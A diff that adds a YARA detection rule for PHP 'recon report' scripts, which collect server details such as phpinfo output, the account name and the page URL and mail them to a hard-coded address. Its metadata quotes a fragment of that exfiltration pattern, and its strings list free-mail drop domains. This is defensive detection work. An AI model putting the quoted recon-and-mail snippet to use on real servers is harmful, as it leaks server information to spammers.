@@ -153,3 +153,27 @@ rule fim_php_mailer_request_recipient_variable
             filesize < 512KB and $assign and $mail and not $val and not $class
         ) and fim_php_mailer_not_asset
 }
+
+rule fim_php_mailer_recon_report
+{
+    meta:
+        author = "fim project"
+        description = "The script gathers facts about the server (phpinfo, the account name, php_uname, the page URL) and mails them to a hard-coded address: a probe that tells a spammer which sites it controls and whether their mail gets out."
+        family = "php_mailer"
+        severity = "high"
+        looks_for = "$user = get_current_user(); mail('someone@example.test', 'ok', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']); ob_start(); phpinfo(); ... mail($list, ...)"
+    strings:
+        // a drop address at a free-mail provider
+        $addr = /@(gmail|hotmail|yahoo|outlook|globo|bol|uol|terra|ig|mail|yandex|protonmail|aol|live|qq|163|126|gmx|web)\.[a-z]{2,6}/ nocase
+        $mail = /[^\w>:$.\\]@?mail\s{0,5}\(/ nocase
+        $r1 = /\bphpinfo\s{0,3}\(/ nocase
+        $r2 = /\bget_current_user\s{0,3}\(/ nocase
+        $r3 = /\bphp_uname\s{0,3}\(/ nocase
+        $r4 = /mail\s{0,5}\([^;]{0,200}HTTP_HOST['"]\s{0,3}\]\s{0,3}\.\s{0,3}\$_SERVER\s{0,3}\[\s{0,3}['"](REQUEST_URI|PHP_SELF|SCRIPT_NAME)/ nocase
+        $class = /class\s{1,5}PHPMailer\b/ nocase
+        $lic = /@license\b|General Public License|Licensed under the|SPDX-License-Identifier/ nocase
+    condition:
+        (
+            filesize < 64KB and $addr and $mail and any of ($r*) and not $class and not $lic
+        ) and fim_php_mailer_not_asset
+}
